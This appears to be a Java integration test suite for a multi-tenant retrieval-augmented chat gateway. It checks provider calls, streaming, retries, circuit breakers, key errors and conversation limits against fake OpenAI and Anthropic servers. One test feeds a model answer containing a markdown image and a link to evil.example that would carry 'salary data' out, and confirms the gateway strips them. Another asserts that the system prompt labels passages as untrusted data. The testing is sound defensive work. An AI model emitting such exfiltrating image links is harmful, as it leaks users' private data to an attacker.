package dev.ragstream.standalone;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ragstream.testsupport.fixtures.Fixtures;
import dev.ragstream.testsupport.llm.FakeLlmServer;
import dev.ragstream.testsupport.llm.LlmReply;
import dev.ragstream.testsupport.llm.RecordedLlmRequest;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Chat answered by the tenants' language models on the real stack, the providers being local
 * servers that speak OpenAI's and Anthropic's wire formats (LangChain4j clients talk to them
 * unchanged): grounded prompts with the tenant's own template, streaming through the gateway,
 * retries, failures mid-answer, refused keys, a provider that stays down, and links in answers.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ChatLlmIT {

    private static final String QUESTION = "How many vacation days do employees get?";

    @TempDir
    static Path home;

    static FakeLlmServer llm;
    static FakeLlmServer down;
    static TestTenants tenants;
    static TestTenants.Created openAi;
    static TestTenants.Created claude;
    static TestTenants.Created flaky;
    static TestTenants.Created bogus;
    static TestTenants.Created limited;
    static Standalone system;
    static GatewayClient gateway;

    @BeforeAll
    static void start() throws IOException {
        llm = FakeLlmServer.start();
        down = FakeLlmServer.start();
        tenants = new TestTenants(home.resolve("tenants"));
        openAi = tenants.rewrite(tenants.create("llm-openai"), Map.of("LLM_PROVIDER", "openai", "OPENAI_API_KEY", "sk-openai-test",
                "OPENAI_MODEL", "gpt-test", "OPENAI_BASE_URL", llm.openAiBaseUrl()));
        claude = tenants.rewrite(tenants.create("llm-claude"), Map.of("LLM_PROVIDER", "claude", "ANTHROPIC_API_KEY", "sk-ant-test",
                "CLAUDE_MODEL", "claude-test", "ANTHROPIC_BASE_URL", llm.anthropicBaseUrl()));
        flaky = tenants.rewrite(tenants.create("llm-flaky"), Map.of("LLM_PROVIDER", "openai-compatible",
                "LLM_BASE_URL", down.openAiBaseUrl(), "LLM_MODEL", "local-model"));
        bogus = tenants.rewrite(tenants.create("llm-bogus"), Map.of("LLM_PROVIDER", "bogus"));
        limited = tenants.rewrite(tenants.create("llm-limited"), Map.of("MAX_CONVERSATION_MESSAGES", "2"));
        system = Standalone.start(tenants.settings(home.resolve("data")));
        gateway = new GatewayClient(system.gatewayUrl());
        for (TestTenants.Created tenant : List.of(openAi, claude, flaky)) {
            TwoTenantsEndToEndIT.uploadAndAwaitIndexed(gateway, tenant, "handbook.md", Fixtures.bytes(Fixtures.HANDBOOK));
        }
        // before any chat of the tenant: the query API reads a tenant's template at most every 30 s
        GatewayClient.Reply prompt = gateway.admin("POST", "/admin/prompts", openAi.id(), openAi.adminKey(),
                "{\"name\": \"pirate\", \"template\": \"You are the Acme assistant. Speak like a pirate.\", \"active\": true}");
        assertThat(prompt.status()).isEqualTo(201);
        assertThat(gateway.admin("PUT", "/admin/widgets/brief", openAi.id(), openAi.adminKey(),
                "{\"tone_prompt\": \"Answer in one short sentence.\"}").status()).isEqualTo(200);
    }

    @AfterAll
    static void stop() {
        if (system != null) {
            system.close();
        }
        if (tenants != null) {
            tenants.close();
        }
        if (llm != null) {
            llm.close();
            down.close();
        }
    }

    @BeforeEach
    void freshProviders() {
        for (FakeLlmServer server : List.of(llm, down)) {
            server.clearScript();
            server.clearRequests();
        }
    }

    @Test
    void openAiAnswersFromDelimitedPassagesUnderTheTenantsOwnTemplateAndTheExchangeIsRecorded() throws Exception {
        llm.answerNext(LlmReply.text("Employees get 27 vacation days a year [1]."));

        GatewayClient.Reply reply = gateway.chat(openAi.id(), openAi.chatKey(), "s-openai", QUESTION);

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.text("response")).isEqualTo("Employees get 27 vacation days a year [1].");
        assertThat(reply.text("llm_provider")).isEqualTo("openai");
        assertThat(reply.body().path("context_used").asBoolean()).isTrue();
        assertThat(reply.body().path("sources").get(0).path("filename").asString()).isEqualTo("handbook.md");
        RecordedLlmRequest asked = single(llm);
        assertThat(asked.api()).isEqualTo("openai");
        assertThat(asked.model()).isEqualTo("gpt-test");
        assertThat(asked.header("authorization")).isEqualTo("Bearer sk-openai-test");
        assertThat(asked.systemPrompt()).startsWith("You are the Acme assistant. Speak like a pirate.")
                .contains("untrusted data").contains("[1]");
        assertThat(asked.lastUserMessage()).startsWith("<passages>\n<passage number=\"1\" document=\"handbook.md\"")
                .contains("27").endsWith("</passages>\n\nQuestion: " + QUESTION);
        assertThat(rows(openAi, "SELECT provider || ':' || model || ':' || (prompt_tokens > 0) || ':' || (completion_tokens > 0)"
                + " || ':' || complete FROM chat_messages WHERE session_id = 's-openai' AND role = 'assistant'"))
                .containsExactly("openai:gpt-test:true:true:true");
        assertThat(rows(openAi, "SELECT message_count FROM chat_sessions WHERE id = 's-openai'")).containsExactly("2");
    }

    @Test
    void theCustomerWidgetsTonePromptFollowsTheTenantsTemplateBeforeTheRules() {
        llm.answerNext(LlmReply.text("27 days a year [1]."));
        String body = GatewayClient.JSON.createObjectNode().put("tenant_id", openAi.id()).put("session_id", "s-widget")
                .put("message", QUESTION).put("widget_key", "brief").toString();

        GatewayClient.Reply reply = gateway.request("POST", "/customer-chat", body);

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.text("response")).isEqualTo("27 days a year [1].");
        assertThat(single(llm).systemPrompt()).startsWith("You are the Acme assistant. Speak like a pirate.\n\n"
                + "Answer in one short sentence.\n\nRules:");
    }

    @Test
    void claudeStreamsServerSentEventsThroughTheGatewayAsTheyArrive() throws Exception {
        String answer = "Each employee gets 27 days of paid vacation [1].";
        llm.answerNext(LlmReply.text(answer));

        List<Event> events = stream(claude, "s-claude", QUESTION);

        assertThat(events.get(0).name()).isEqualTo("sources");
        assertThat(events.get(0).data().path("sources").get(0).path("filename").asString()).isEqualTo("handbook.md");
        List<Event> tokens = events.stream().filter(e -> e.name().equals("token")).toList();
        assertThat(tokens.size()).as("one event per piece the model sent").isGreaterThan(3);
        assertThat(String.join("", tokens.stream().map(e -> e.data().path("text").asString()).toList())).isEqualTo(answer);
        Event done = events.get(events.size() - 1);
        assertThat(done.name()).isEqualTo("done");
        assertThat(done.data().path("response").asString()).isEqualTo(answer);
        assertThat(done.data().path("llm_provider").asString()).isEqualTo("claude");
        RecordedLlmRequest asked = single(llm);
        assertThat(asked.api()).isEqualTo("anthropic");
        assertThat(asked.stream()).isTrue();
        assertThat(asked.header("x-api-key")).isEqualTo("sk-ant-test");
        assertThat(asked.systemPrompt()).startsWith("You are the helpful assistant of this website.");
    }

    @Test
    void aProviderFailingMidAnswerEndsTheStreamWithAnErrorAndTheAnswerIsNeverStoredAsComplete() throws Exception {
        llm.answerNext(LlmReply.brokenAfter("Employees get twenty"));

        List<Event> events = stream(openAi, "s-broken", QUESTION);

        assertThat(events.stream().map(Event::name)).contains("sources", "token").doesNotContain("done");
        Event error = events.get(events.size() - 1);
        assertThat(error.name()).isEqualTo("error");
        assertThat(error.data().path("status").asInt()).isEqualTo(503);
        assertThat(error.data().path("error").asString()).isEqualTo("The language model is unavailable; please retry");
        assertThat(rows(openAi, "SELECT content || ':' || complete FROM chat_messages WHERE session_id = 's-broken'"
                + " AND role = 'assistant'")).containsExactly("Employees get twenty:false");
        assertThat(llm.requestCount()).as("nothing is retried once a token went out").isEqualTo(1);

        llm.answerNext(LlmReply.brokenAfter("Employees get"));
        GatewayClient.Reply whole = gateway.chat(openAi.id(), openAi.chatKey(), "s-broken-json", QUESTION);
        assertThat(whole.status()).isEqualTo(503);
        assertThat(whole.retryAfter()).isNotNull();
    }

    @Test
    void rateLimitsAndServerErrorsAreRetriedTwiceThenTheAnswerIs503WithRetryAfter() {
        down.answerNext(LlmReply.error(429, "Rate limit reached")).answerNext(LlmReply.error(500, "The server had an error"))
                .answerNext(LlmReply.text("27 days [1]."));

        GatewayClient.Reply retried = gateway.chat(flaky.id(), flaky.chatKey(), "s-flaky", QUESTION);

        assertThat(retried.status()).isEqualTo(200);
        assertThat(retried.text("response")).isEqualTo("27 days [1].");
        assertThat(retried.text("llm_provider")).isEqualTo("openai-compatible");
        assertThat(down.requestCount()).isEqualTo(3);

        down.clearRequests();
        down.answerNext(3, LlmReply.error(503, "Overloaded"));
        GatewayClient.Reply failed = gateway.chat(flaky.id(), flaky.chatKey(), "s-flaky-2", QUESTION);
        assertThat(failed.status()).isEqualTo(503);
        assertThat(failed.retryAfter()).isNotNull();
        assertThat(failed.text("error")).isEqualTo("The language model is unavailable; please retry");
        assertThat(down.requestCount()).as("one attempt and two retries").isEqualTo(3);
    }

    @Test
    @Order(Integer.MAX_VALUE) // last: the breaker it opens stays open for 30 s
    void aServerThatKeepsFailingOpensItsBreakerAndIsNoLongerCalledWhileTheOthersAnswer() {
        down.answerNext(30, LlmReply.error(502, "Bad gateway"));
        for (int i = 0; i < 4; i++) {
            assertThat(gateway.chat(flaky.id(), flaky.chatKey(), "s-down", QUESTION).status()).isEqualTo(503);
        }
        int calls = down.requestCount();

        GatewayClient.Reply shortCut = gateway.chat(flaky.id(), flaky.chatKey(), "s-down", QUESTION);

        assertThat(shortCut.status()).isEqualTo(503);
        assertThat(Integer.parseInt(shortCut.retryAfter())).isPositive();
        assertThat(down.requestCount()).as("the open breaker answers without calling the server").isEqualTo(calls);
        assertThat(gateway.chat(openAi.id(), openAi.chatKey(), "s-other", QUESTION).status())
                .as("another provider server keeps answering").isEqualTo(200);
    }

    @Test
    void aRefusedKeyIs502AtOnceAndAnUnknownProviderIsNamed() {
        llm.answerNext(LlmReply.error(401, "Incorrect API key provided"));

        GatewayClient.Reply refused = gateway.chat(openAi.id(), openAi.chatKey(), "s-key", QUESTION);

        assertThat(refused.status()).isEqualTo(502);
        assertThat(refused.text("error")).contains("check the tenant's LLM settings");
        assertThat(llm.requestCount()).as("a refused key is not retried").isEqualTo(1);
        GatewayClient.Reply misconfigured = gateway.chat(bogus.id(), bogus.chatKey(), "s-bogus", QUESTION);
        assertThat(misconfigured.status()).isEqualTo(502);
        assertThat(misconfigured.text("error")).contains("Unknown LLM_PROVIDER 'bogus'");
    }

    @Test
    void linksAndImagesToOtherOriginsNeverReachTheVisitorStreamedOrNot() throws Exception {
        String injected = "27 days [1]. ![x](https://evil.example/pixel?q=salary+data) More at [our page](https://evil.example/a).";
        llm.answerNext(LlmReply.text(injected));
        GatewayClient.Reply whole = gateway.chat(openAi.id(), openAi.chatKey(), "s-links", QUESTION);
        assertThat(whole.text("response")).isEqualTo("27 days [1].  More at our page.");

        llm.answerNext(LlmReply.text(injected));
        List<Event> events = stream(openAi, "s-links-2", QUESTION);
        String streamed = String.join("", events.stream().filter(e -> e.name().equals("token"))
                .map(e -> e.data().path("text").asString()).toList());
        assertThat(streamed).isEqualTo("27 days [1].  More at our page.");
    }

    @Test
    void aFollowUpIsRewrittenFromTheConversationBeforeRetrievalAndTheEarlierTurnsGoAlong() {
        llm.answerNext(LlmReply.text("Employees get 27 vacation days a year [1]."));
        assertThat(gateway.chat(openAi.id(), openAi.chatKey(), "s-follow", QUESTION).status()).isEqualTo(200);
        llm.clearRequests();
        llm.answerNext(LlmReply.text("How many vacation days do part-time employees get?"))
                .answerNext(LlmReply.text("Part-timers get days in proportion to their hours [1]."));

        GatewayClient.Reply followUp = gateway.chat(openAi.id(), openAi.chatKey(), "s-follow", "And part-timers?");

        assertThat(followUp.text("response")).isEqualTo("Part-timers get days in proportion to their hours [1].");
        assertThat(followUp.body().path("sources").size()).as("found through the rewritten question").isPositive();
        List<RecordedLlmRequest> asked = llm.requests();
        assertThat(asked).hasSize(2);
        assertThat(asked.get(0).systemPrompt()).contains("rewrite the last question");
        assertThat(asked.get(0).lastUserMessage()).contains("User: " + QUESTION)
                .contains("Assistant: Employees get 27 vacation days a year [1].").endsWith("Last question: And part-timers?");
        JsonNode messages = asked.get(1).body().path("messages");
        assertThat(messages.size()).as("system, the earlier question and answer, the new question").isEqualTo(4);
        assertThat(messages.get(1).path("content").asString()).isEqualTo(QUESTION);
        assertThat(asked.get(1).lastUserMessage()).endsWith("Question: And part-timers?");
    }

    @Test
    void aConversationAtItsLimitGetsTheSeedsLimitReplyWithoutBeingAnswered() {
        GatewayClient.Reply first = gateway.chat(limited.id(), limited.chatKey(), "s-limit", QUESTION);
        assertThat(first.status()).isEqualTo(200);
        assertThat(first.body().has("limit_reached")).isFalse();

        GatewayClient.Reply second = gateway.chat(limited.id(), limited.chatKey(), "s-limit", QUESTION);

        assertThat(second.status()).isEqualTo(200);
        assertThat(second.text("response")).isEqualTo("This conversation has reached its maximum length. Click the **+** button"
                + " in the header to start a new conversation.");
        assertThat(second.body().path("limit_reached").asBoolean()).isTrue();
        assertThat(second.body().path("context_used").asBoolean()).isFalse();
        assertThat(second.body().path("sources").size()).isZero();
        assertThat(gateway.chat(limited.id(), limited.chatKey(), "s-limit-new", QUESTION).body().has("limit_reached"))
                .as("a new session starts afresh").isFalse();
    }

    private static RecordedLlmRequest single(FakeLlmServer server) {
        assertThat(server.requests()).hasSize(1);
        return server.requests().get(0);
    }

    record Event(String name, JsonNode data) {
    }

    /** A streamed chat through the gateway, its events in order. */
    private static List<Event> stream(TestTenants.Created tenant, String session, String message) throws Exception {
        String body = JsonMapper.shared().createObjectNode().put("tenant_id", tenant.id()).put("session_id", session)
                .put("message", message).put("stream", true).toString();
        HttpResponse<java.util.stream.Stream<String>> response = HttpClient.newHttpClient().send(
                HttpRequest.newBuilder(URI.create(system.gatewayUrl() + "/chat")).header("Content-Type", "application/json")
                        .header("X-API-Key", tenant.chatKey()).POST(HttpRequest.BodyPublishers.ofString(body))
                        .timeout(Duration.ofSeconds(60)).build(), HttpResponse.BodyHandlers.ofLines());
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith("text/event-stream");
        List<Event> events = new ArrayList<>();
        String[] name = {null};
        response.body().forEach(line -> {
            if (line.startsWith("event: ")) {
                name[0] = line.substring(7);
            } else if (line.startsWith("data: ")) {
                events.add(new Event(name[0], JsonMapper.shared().readTree(line.substring(6))));
            }
        });
        return events;
    }

    private static List<String> rows(TestTenants.Created tenant, String sql) throws SQLException {
        try (Connection c = DriverManager.getConnection("jdbc:postgresql://127.0.0.1:5432/" + tenant.database(), "postgres", "");
             ResultSet rs = c.createStatement().executeQuery(sql)) {
            List<String> rows = new ArrayList<>();
            while (rs.next()) {
                rows.add(rs.getString(1));
            }
            return rows;
        }
    }
}
